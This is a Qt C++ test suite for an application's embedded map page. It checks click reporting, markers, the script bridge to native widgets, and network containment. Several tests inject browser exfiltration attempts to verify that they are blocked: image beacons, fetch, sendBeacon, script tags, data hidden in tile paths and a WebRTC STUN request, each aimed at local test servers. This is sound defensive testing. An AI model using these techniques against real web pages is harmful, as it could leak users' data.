#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDesktopServices>
#include <QElapsedTimer>
#include <QFrame>
#include <QGroupBox>
#include <QLineEdit>
#include <QListWidget>
#include <QMainWindow>
#include <QMenu>
#include <QMenuBar>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTest>
#include <QUdpSocket>

#include "ElevationServer.h"
#include "UrlCatcher.h"
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include "BrowserTest.h"
#include "ErrorGuard.h"
#include "MapDocument.h"
#include "WBContainer.h"

using BrowserTest::eval;
using BrowserTest::waitFor;

// Stands in for the map picker's external object: records what the page reports.
class TRecordingExternal : public TObjectWrapper {
    Q_OBJECT
public:
    using TObjectWrapper::TObjectWrapper;
    Q_INVOKABLE void NewCoordinate(const QString &sLat, const QString &sLong)
    {
        clicks.append({sLat, sLong});
        if (onClick)
            onClick();
    }
    Q_INVOKABLE void Fail() { throw NembraError(QStringLiteral("Absichtlich fehlgeschlagen")); }
    static inline std::function<void()> onClick;
    Q_INVOKABLE void NewCenterCoordinate(const QString &sLat, const QString &sLong) { centres.append({sLat, sLong}); }
    static inline QList<QStringList> clicks, centres;
};

// The two tile layers from a server of the test's own, for one test.
class LocalTiles {
public:
    explicit LocalTiles(const ElevationServer &server, const char *streetSuffix = "")
        : saved_(MapService::config())
    {
        MapService::Config &c = MapService::config();
        c.satellite.url = QStringLiteral("http://%1/sat/{z}/{x}/{y}").arg(server.host());
        c.street.url = QStringLiteral("http://%1/street/{z}/{x}/{y}%2").arg(server.host(), QLatin1String(streetSuffix));
    }
    ~LocalTiles() { MapService::config() = saved_; }

private:
    MapService::Config saved_;
};

class TestMapPage : public QObject {
    Q_OBJECT
private slots:
    void init();
    void cleanup();
    void composedDocument();
    void scriptTexts();
    void pageReportsClicksAndCentre();
    void markersAndResize();
    void execJsReportsFailures();
    void hostInformation();
    void textSelectionOff();
    void contextMenus();
    void neutralContainerGivesNoExternal();
    void navigationAwayIsRefused();
    void bridgeAnswersOnlyTheOwnDocument();
    void pageReachesOnlyItsFilesAndTheTiles();
    void attributionLeavesTheScaleBarFree();
    void pageScriptReachesNativeObjects();
    void scriptRunDuringACallRunsBeforeItReturns();
    void tileServersGetOnlyTiles();
    void pageSendsNoUdp();
    void formPartsCannotBeLocked();
    void menuItemRunsAfterTheCallReturned();

private:
    void loadMap();
    std::unique_ptr<QWebEngineView> view_;
    std::unique_ptr<TWBGoogleMaps> maps_;
};

void TestMapPage::init()
{
    TRecordingExternal::clicks.clear();
    TRecordingExternal::onClick = nullptr;
    TRecordingExternal::centres.clear();
    view_ = std::make_unique<QWebEngineView>();
    view_->resize(600, 400);
    view_->show();
    QVERIFY(QTest::qWaitForWindowExposed(view_.get()));
}

void TestMapPage::cleanup()
{
    maps_.reset();
    view_.reset();
}

void TestMapPage::loadMap()
{
    maps_ = std::make_unique<TWBGoogleMaps>(view_.get());
    maps_->OnGetExternal = [](DispatchRef &d) {
        d = DispatchRef(new TAutoObjectDispatch(new TRecordingExternal(qApp), true));
        return S_OK;
    };
    maps_->LoadDefaultGoogleMapsDocument("49.451870", "6.6607189");
    QVERIFY(maps_->LoadedGoogleMaps());
    QVERIFY(waitFor(view_->page(), "typeof map === 'object' && map !== null && !!map._map"));
}

void TestMapPage::composedDocument()
{
    const QStringList lines = MapDocument::lines("49.451870", "6.6607189", "maps.example.localhost");
    QCOMPARE(lines.size(), 77);
    QCOMPARE(lines[45], QStringLiteral("        map.setCenter(new GLatLng(49.451870, 6.6607189), 14);"));
    QCOMPARE(lines[4],
             QStringLiteral("    <script src=\"http://maps.example.localhost/maps?file=api&amp;v=2\" "
                            "type=\"text/javascript\"></script>"));
    QCOMPARE(lines[37], QStringLiteral("\t\t     markersArray = [];"));
    QCOMPARE(lines[0], QStringLiteral("<html>"));
    QCOMPARE(lines[76], QStringLiteral("</html>"));
    QCOMPARE(lines[6], QString());
    const QString document = MapDocument::compose("49.451870", "6.6607189", "maps.example.localhost");
    QCOMPARE(document, lines.join("\r\n"));
    QVERIFY(!document.endsWith("\n"));

    maps_ = std::make_unique<TWBGoogleMaps>(view_.get());
    QVERIFY(!maps_->LoadedGoogleMaps());
    maps_->LoadDefaultGoogleMapsDocument("49.451870", "6.6607189");
    QVERIFY(maps_->LoadedGoogleMaps());
    QCOMPARE(maps_->loadedBytes(),
             MapDocument::compose("49.451870", "6.6607189", MapService::config().apiHost).toLatin1() + "\r\n");
    QCOMPARE(maps_->ReadyState(), 4);
    // The page runs under the program's local URL.
    QCOMPARE(eval(view_->page(), "location.origin").toString(), QStringLiteral("http://localhost"));
}

void TestMapPage::scriptTexts()
{
    QCOMPARE(MapDocument::clearMarkersScript(), QStringLiteral("clearMarkers();"));
    QCOMPARE(MapDocument::setMarkerScript("49.45187", "6.660718"),
             QStringLiteral("createMapMarker(\"49.45187\", \"6.660718\", \"test\");"));
    QCOMPARE(MapDocument::setMapCenterScript("49.45187", "6.660718"),
             QStringLiteral("SetMapCenter(\"49.45187\", \"6.660718\");"));
    QCOMPARE(MapDocument::getMapCenterScript(), QStringLiteral("GetMapCenter();"));
    QCOMPARE(MapDocument::resizeScript(504),
             QStringLiteral("if (document) {   if (document.body) {     var m = document.getElementById(\"map\");     "
                            "if (typeof(m) != \"undefined\") {       m.style.height = 504;     }   } } "));
}

void TestMapPage::pageReportsClicksAndCentre()
{
    loadMap();
    // A real click in the middle of the map element, the map's centre.
    QWidget *surface = view_->focusProxy();
    QVERIFY(surface);
    const QPoint middle(view_->width() / 2, 150);
    QTest::mouseMove(surface, middle);
    QTest::mouseClick(surface, Qt::LeftButton, {}, middle);
    QTRY_COMPARE_WITH_TIMEOUT(TRecordingExternal::clicks.size(), 1, 5000);
    const QStringList click = TRecordingExternal::clicks[0];
    QVERIFY2(click[0].size() <= 9 && click[1].size() <= 9, qPrintable(click.join(" ")));
    QVERIFY2(qAbs(click[0].toDouble() - 49.45187) < 0.001, qPrintable(click[0]));
    QVERIFY2(qAbs(click[1].toDouble() - 6.6607189) < 0.001, qPrintable(click[1]));

    maps_->ExecJS(MapDocument::getMapCenterScript());
    QCOMPARE(TRecordingExternal::centres, QList<QStringList>({{"49.45187", "6.6607189"}}));
}

void TestMapPage::markersAndResize()
{
    loadMap();
    maps_->ExecJS(MapDocument::setMarkerScript("49.45187", "6.660718"));
    maps_->ExecJS(MapDocument::setMarkerScript("49.46", "6.67"));
    QCOMPARE(eval(view_->page(), "markersArray.length").toInt(), 2);
    QCOMPARE(eval(view_->page(), "document.querySelectorAll('.leaflet-marker-icon').length").toInt(), 2);
    maps_->ExecJS(MapDocument::clearMarkersScript());
    QCOMPARE(eval(view_->page(), "markersArray.length").toInt(), 0);
    QCOMPARE(eval(view_->page(), "document.querySelectorAll('.leaflet-marker-icon').length").toInt(), 0);

    maps_->ExecJS(MapDocument::setMapCenterScript("50.1", "8.2"));
    QCOMPARE(eval(view_->page(), "map.getCenter().y").toDouble(), 50.1);
    maps_->ExecJS(MapDocument::resizeScript(123));
    QCOMPARE(eval(view_->page(), "document.getElementById('map').offsetHeight").toInt(), 123);
}

void TestMapPage::execJsReportsFailures()
{
    maps_ = std::make_unique<TWBGoogleMaps>(view_.get());
    // No document yet: nothing happens.
    maps_->ExecJS("throw new Error('nie')");
    maps_->LoadHTML("<html><body>leer</body></html>");
    try {
        maps_->ExecJS("GetMapCenter();");
        QFAIL("no error");
    } catch (const NembraError &e) {
        QVERIFY2(e.message().startsWith("ReferenceError"), qPrintable(e.message()));
    }
    maps_->ExecJS("window.ran = 41 + 1;");
    QCOMPARE(eval(view_->page(), "window.ran").toInt(), 42);
}

void TestMapPage::hostInformation()
{
    TWBContainer plain(view_.get());
    DOCHOSTUIINFO info;
    QCOMPARE(plain.GetHostInfo(info), S_OK);
    QCOMPARE(info.cbSize, 20u);
    QCOMPARE(info.dwDoubleClick, 0u);
    QVERIFY(info.hasHostCss);
    QVERIFY(info.pchHostCss.isEmpty());
    const quint32 theme = TWBContainer::applicationUsesNativeStyle() ? DOCHOSTUIFLAG_THEME : DOCHOSTUIFLAG_NOTHEME;
    QCOMPARE(info.dwFlags, theme);
    plain.AllowTextSelection = false;
    plain.GetHostInfo(info);
    QCOMPARE(info.dwFlags, theme | DOCHOSTUIFLAG_DIALOG);

    QWebEngineView other;
    TWBGoogleMaps maps(&other);
    maps.GetHostInfo(info);
    QCOMPARE(info.dwFlags, theme | DOCHOSTUIFLAG_SCROLL_NO | DOCHOSTUIFLAG_NO3DBORDER);
    QVERIFY(!other.settings()->testAttribute(QWebEngineSettings::ShowScrollBars));
    QVERIFY(view_->settings()->testAttribute(QWebEngineSettings::ShowScrollBars));
}

void TestMapPage::textSelectionOff()
{
    TWBContainer container(view_.get());
    container.AllowTextSelection = false;
    container.CSS = "body { color: rgb(1, 2, 3); }";
    container.applyHostInfo();
    QSignalSpy loaded(view_->page(), &QWebEnginePage::loadFinished);
    view_->setHtml("<html><body><p id='p'>Text</p></body></html>", QUrl("http://localhost/"));
    QVERIFY(loaded.wait(10000));
    QVERIFY(waitFor(view_->page(), "!!document.getElementById('nembra-host-style')"));
    QCOMPARE(eval(view_->page(), "getComputedStyle(document.getElementById('p')).userSelect").toString(),
             QStringLiteral("none"));
    QCOMPARE(eval(view_->page(), "getComputedStyle(document.body).color").toString(), QStringLiteral("rgb(1, 2, 3)"));
    // A border around the page unless switched off.
    QVERIFY(eval(view_->page(), "getComputedStyle(document.documentElement).borderTopStyle").toString() == "inset");
}

void TestMapPage::contextMenus()
{
    TWBContainer container(view_.get());
    QCOMPARE(container.ShowContextMenu(QPoint(10, 10)), S_FALSE);
    container.UseCustomCtxMenu = true;
    QCOMPARE(container.ShowContextMenu(QPoint(10, 10)), S_OK);
    QMenu menu;
    menu.addAction("Eigenes Menü");
    container.PopupMenu = &menu;
    QSignalSpy shown(&menu, &QMenu::aboutToShow);
    QCOMPARE(container.ShowContextMenu(QPoint(20, 30)), S_OK);
    QCOMPARE(shown.size(), 1);
    menu.hide();
    QCOMPARE(view_->contextMenuPolicy(), Qt::CustomContextMenu);
}

void TestMapPage::neutralContainerGivesNoExternal()
{
    TNulWBContainer neutral(view_.get());
    DispatchRef d(new TAutoObjectDispatch(new TRecordingExternal(qApp), true));
    QCOMPARE(neutral.GetExternal(d), E_FAIL);
    QVERIFY(!d);
    QSignalSpy loaded(view_->page(), &QWebEnginePage::loadFinished);
    view_->setHtml("<html><body><script>try { external.newCoordinate('1', '2'); document.title = 'reached'; }"
                   " catch (e) { document.title = 'failed'; }</script></body></html>",
                   QUrl("http://localhost/"));
    QVERIFY(loaded.wait(10000));
    QCOMPARE(eval(view_->page(), "document.title").toString(), QStringLiteral("failed"));
    QVERIFY(TRecordingExternal::clicks.isEmpty());

    // A map container without handler: E_FAIL and no object.
    QWebEngineView other;
    TWBGoogleMaps maps(&other);
    QCOMPARE(maps.GetExternal(d), E_FAIL);
    QVERIFY(!d);
}

void TestMapPage::navigationAwayIsRefused()
{
    UrlCatcher catcher;
    QDesktopServices::setUrlHandler("http", &catcher, "open");
    QDesktopServices::setUrlHandler("https", &catcher, "open");
    maps_ = std::make_unique<TWBGoogleMaps>(view_.get());
    maps_->LoadHTML("<html><body style='margin:0'><a id='a' href='https://www.openstreetmap.org/copyright' "
                    "style='display:block;width:200px;height:50px'>Link</a></body></html>");
    // Neither another host nor the document's own address: a server at
    // http://localhost is not the program.
    ElevationServer localhost80(80);
    localhost80.body = "<html><body>fremd</body></html>";
    const char *const attempts[] = {
        "location.href = 'http://127.0.0.1:9/weg'",
        "location.href = 'http://localhost/'",
        "var f = document.createElement('form'); f.method = 'post'; f.action = 'http://localhost/';"
        " document.body.appendChild(f); f.submit();",
    };
    for (const char *attempt : attempts) {
        eval(view_->page(), QStringLiteral("window.stillHere = true; ") + QLatin1String(attempt));
        QTest::qWait(300);
        QCOMPARE(view_->url(), QUrl("http://localhost/"));
        QVERIFY2(eval(view_->page(), "window.stillHere === true").toBool(), attempt);
    }
    QVERIFY(localhost80.paths.isEmpty());
    // A link clicked by script opens nothing.
    eval(view_->page(), "document.getElementById('a').click()");
    QTest::qWait(300);
    QVERIFY(catcher.opened.isEmpty());

    // A link the user clicks opens in the system's browser instead.
    const qsizetype before = catcher.opened.size();
    QTest::mouseClick(view_->focusProxy(), Qt::LeftButton, {}, QPoint(50, 20));
    QTRY_COMPARE(catcher.opened.size(), before + 1);
    QCOMPARE(catcher.opened.constLast(), QUrl("https://www.openstreetmap.org/copyright"));
    QCOMPARE(view_->url(), QUrl("http://localhost/"));
    QDesktopServices::unsetUrlHandler("http");
    QDesktopServices::unsetUrlHandler("https");
}

void TestMapPage::bridgeAnswersOnlyTheOwnDocument()
{
    loadMap();
    const QString endpoint = maps_->bridgeEndpoint();
    const QString request =
        QStringLiteral(
            "(function(){ var x = new XMLHttpRequest(); try { x.open('GET', '%1' + "
            "encodeURIComponent('{\"op\":\"external\"}'), false);"
            " x.send(); return x.status + ':' + x.responseText; } catch (e) { return 'error:' + e.name; } })()")
            .arg(endpoint);
    QVERIFY(eval(view_->page(), request).toString().startsWith("200:{"));

    QWebEngineView foreign;
    TWBContainer container(&foreign);
    QSignalSpy loaded(foreign.page(), &QWebEnginePage::loadFinished);
    foreign.setHtml("<html><body>fremd</body></html>", QUrl("http://127.0.0.1/"));
    QVERIFY(loaded.wait(10000));
    const QString answer = eval(foreign.page(), request).toString();
    QVERIFY2(answer.startsWith("error:") || !answer.startsWith("200"), qPrintable(answer));
}

void TestMapPage::pageReachesOnlyItsFilesAndTheTiles()
{
    ElevationServer tiles, stranger;
    // Port 80 of this machine, where the document claims to come from
    // (only where the test may listen there).
    ElevationServer localhost80(80);
    const LocalTiles local(tiles);

    loadMap();
    QTRY_VERIFY_WITH_TIMEOUT(!tiles.paths.isEmpty(), 10000);
    QVERIFY(tiles.paths.constFirst().startsWith("/sat/14/"));
    // The tile servers learn who asks and where to reach the makers.
    QVERIFY2(tiles.heads.constFirst().contains("User-Agent: Nembra/"), tiles.heads.constFirst().constData());
    QVERIFY(tiles.heads.constFirst().contains("(+https://nembra.de/)"));
    // Tiles stay in a disk cache of the user's between runs.
    QWebEngineProfile *profile = MapService::profile();
    QVERIFY(!profile->isOffTheRecord());
    QCOMPARE(profile->httpCacheType(), QWebEngineProfile::DiskHttpCache);
    QVERIFY2(profile->cachePath().startsWith(qEnvironmentVariable("XDG_CACHE_HOME") + "/nembra/"),
             qPrintable(profile->cachePath()));

    const QString strangerUrl = QStringLiteral("http://%1").arg(stranger.host());
    eval(view_->page(),
         QStringLiteral("new Image().src = '%1/bild?daten=1';"
                        "fetch('%1/abruf').catch(function(){});"
                        "navigator.sendBeacon('%1/signal', 'daten');"
                        "var s = document.createElement('script'); s.src = '%1/skript';"
                        "document.head.appendChild(s);")
             .arg(strangerUrl));
    QTest::qWait(500);
    QVERIFY2(stranger.paths.isEmpty(), stranger.paths.join(' ').constData());
    if (localhost80.listening())
        QVERIFY2(localhost80.paths.isEmpty(), localhost80.paths.join(' ').constData()); // no favicon either
}

void TestMapPage::attributionLeavesTheScaleBarFree()
{
    // The picker's map at its smallest: the long attribution of the
    // satellite tiles wraps beside the scale bar, never over it.
    view_->resize(480, 400);
    loadMap();
    QVERIFY(waitFor(view_->page(), "!!document.querySelector('.leaflet-control-scale')"));
    const QString overlap = QStringLiteral(
        "(function(){ var a = document.querySelector('.leaflet-control-attribution').getBoundingClientRect();"
        " var s = document.querySelector('.leaflet-control-scale').getBoundingClientRect();"
        " return a.left < s.right && s.left < a.right && a.top < s.bottom && s.top < a.bottom; })()");
    QCOMPARE(eval(view_->page(), overlap), QVariant(false));
}

void TestMapPage::pageScriptReachesNativeObjects()
{
    QMainWindow form;
    form.setObjectName("Form1");
    auto *edit = new QLineEdit(&form);
    edit->setObjectName("Edit5");
    edit->setText("vorher");
    form.setCentralWidget(edit);
    loadMap();
    // Read, write and read again, each answered before the script goes on.
    const QString script = QStringLiteral(
        "(function(){ var e = external.Form1.Edit5; var before = e.Text; e.Text = '49,45187N;6,66071E';"
        " var after = external.form1.edit5.text; var failed = '';"
        " try { external.Fail(); } catch (err) { failed = err.message; }"
        " return [before, after, failed, e.ClassName, e.InheritsFrom('qwidget')].join('|'); })()");
    QCOMPARE(eval(view_->page(), script).toString(),
             QStringLiteral("vorher|49,45187N;6,66071E|Absichtlich fehlgeschlagen|QLineEdit|true"));
    QCOMPARE(edit->text(), QStringLiteral("49,45187N;6,66071E"));
    QVERIFY(eval(view_->page(),
                 "(function(){ try { external.gibtsnicht; return 'no'; } catch (e) { return 'thrown'; } })()")
                .toString()
            == "thrown");
}

void TestMapPage::scriptRunDuringACallRunsBeforeItReturns()
{
    loadMap();
    TRecordingExternal::onClick = [this] { maps_->ExecJS("window.fromNative = (window.fromNative || 0) + 1;"); };
    QCOMPARE(
        eval(view_->page(), "(function(){ external.newCoordinate('1', '2'); return window.fromNative; })()").toInt(),
        1);
    // A failing script of that kind throws in the page.
    TRecordingExternal::onClick = [this] { maps_->ExecJS("gibtEsNicht();"); };
    QCOMPARE(eval(view_->page(),
                  "(function(){ try { external.newCoordinate('1', '2'); return 'no'; }"
                  " catch (e) { return e.name; } })()")
                 .toString(),
             QStringLiteral("ReferenceError"));
}

// What injected script could send to a tile server: data in a tile's path
// or query, a POST, a beacon. Only tiles of the layers' shape arrive.
void TestMapPage::tileServersGetOnlyTiles()
{
    ElevationServer tiles;
    const LocalTiles local(tiles, ".png");
    loadMap();
    QTRY_VERIFY_WITH_TIMEOUT(!tiles.paths.isEmpty(), 10000);

    const QString host = QStringLiteral("http://%1").arg(tiles.host());
    eval(view_->page(),
         QStringLiteral("new Image().src = '%1/street/EXFIL/Merzig.png';"
                        "fetch('%1/street/1/0/0.png', {method: 'POST', body: 'Merzig'})"
                        ".catch(function(){});"
                        "navigator.sendBeacon('%1/sat/1/1/1', 'Merzig');"
                        "new Image().src = '%1/sat/1/0/0?d=Merzig';"
                        "new Image().src = '%1/sat/2/7/0';"
                        "new Image().src = '%1/sat/99/0/0';"
                        "new Image().src = '%1/street/3/1/2.png';")
             .arg(host));
    // The last one is a tile: once it came, the others had their chance.
    QTRY_VERIFY_WITH_TIMEOUT(tiles.paths.contains("/street/3/1/2.png"), 10000);
    QTest::qWait(300);
    static const QRegularExpression tile(
        QStringLiteral("^/(sat/[0-9]+/[0-9]+/[0-9]+|street/[0-9]+/[0-9]+/[0-9]+\\.png)$"));
    for (const QByteArray &path : std::as_const(tiles.paths))
        QVERIFY2(tile.match(QString::fromLatin1(path)).hasMatch(), path.constData());
    QVERIFY(!tiles.paths.contains("/sat/2/7/0"));
    QVERIFY(!tiles.paths.contains("/sat/99/0/0"));
    for (const QByteArray &head : std::as_const(tiles.heads))
        QVERIFY2(head.startsWith("GET "), head.constData());
}

// A peer connection with a STUN server on this machine: no packet reaches it.
void TestMapPage::pageSendsNoUdp()
{
    QUdpSocket stun;
    QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
    loadMap();
    const QString made = eval(view_->page(),
                              QStringLiteral(
                                  "(function(){ try {"
                                  " var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%1'}]});"
                                  " pc.createDataChannel('daten');"
                                  " pc.createOffer().then(function(o) { return pc.setLocalDescription(o); });"
                                  " window.peer = pc; return 'made'; } catch (e) { return 'refused'; } })()")
                                  .arg(stun.localPort()))
                             .toString();
    QVERIFY2(made == "made" || made == "refused", qPrintable(made));
    // Gathering ends at once when there is nothing to gather.
    QElapsedTimer waited;
    waited.start();
    while (waited.elapsed() < 3000 && !stun.hasPendingDatagrams()) {
        if (made == "made" && waited.elapsed() > 500
            && eval(view_->page(), "window.peer.iceGatheringState").toString() == "complete")
            break;
        QTest::qWait(50);
    }
    QTest::qWait(200);
    QVERIFY2(!stun.hasPendingDatagrams(), "a STUN request reached the server");
}

void TestMapPage::formPartsCannotBeLocked()
{
    QMainWindow form;
    form.setObjectName("Form1");
    auto *panel = new QFrame(&form);
    panel->setObjectName("Panel1");
    auto *edit = new QLineEdit(panel);
    edit->setObjectName("Edit5");
    auto *group = new QGroupBox(panel);
    group->setObjectName("GroupBox1");
    (new QCheckBox(group))->setObjectName("CheckBox1");
    auto *combo = new QComboBox(panel);
    combo->setObjectName("ComboBox1");
    combo->setEditable(true);
    auto *list = new QListWidget(panel);
    list->setObjectName("CheckListBox1");
    form.setCentralWidget(panel);
    form.show();
    loadMap();
    const auto tryTo = [this](const char *control, const char *member) {
        return eval(view_->page(),
                    QStringLiteral("(function(){ try { external.Form1.%1.%2 = false; return 'done'; }"
                                   " catch (e) { return e.message; } })()")
                        .arg(QLatin1String(control), QLatin1String(member)))
            .toString();
    };
    const QString refused = QStringLiteral(
        "Ein Bereich eines Fensters des Programms kann nicht ausgeblendet oder gesperrt werden");
    for (const char *part : {"Panel1", "GroupBox1"})
        for (const char *member : {"Enabled", "Visible"})
            QCOMPARE(tryTo(part, member), refused);
    QVERIFY(panel->isEnabled() && panel->isVisible() && group->isEnabled() && group->isVisible());
    // Single controls keep what script may do with them.
    for (const char *single : {"Edit5", "ComboBox1", "CheckListBox1", "CheckBox1"})
        QCOMPARE(tryTo(single, "Enabled"), QStringLiteral("done"));
    QVERIFY(!edit->isEnabled() && !combo->isEnabled() && !list->isEnabled());
}

// A menu item's Click that opens a box: the page's call has returned while
// the box is open.
void TestMapPage::menuItemRunsAfterTheCallReturned()
{
    QMainWindow form;
    form.setObjectName("Form1");
    form.menuBar()->setObjectName("MainMenu1");
    QMenu *file = form.menuBar()->addMenu("&Datei");
    file->setObjectName("MenuItemFile");
    QAction *save = file->addAction("&Speichern");
    save->setObjectName("MenuItemSave");
    form.show();
    loadMap();
    bool ran = false, returnedMeanwhile = false;
    connect(save, &QAction::triggered, this, [&] {
        ran = true;
        // As a modal box would: an event loop of its own until the page answers.
        QElapsedTimer open;
        open.start();
        while (!returnedMeanwhile && open.elapsed() < 3000)
            returnedMeanwhile = eval(view_->page(), "window.clickReturned === true", 500).toBool();
    });
    const QVariant called = eval(view_->page(),
                                 QStringLiteral("(function(){ try { external.Form1.MainMenu1.FindItem(%1).Click();"
                                                " window.clickReturned = true; return 'called'; }"
                                                " catch (e) { return e.message; } })()")
                                     .arg(TMenuItemWrapper::commandOf(save)));
    QCOMPARE(called.toString(), QStringLiteral("called"));
    QTRY_VERIFY(ran);
    QVERIFY(returnedMeanwhile);
}

NEMBRA_BROWSER_TEST_MAIN(QApplication, TestMapPage)

#include "tst_mappage.moc"
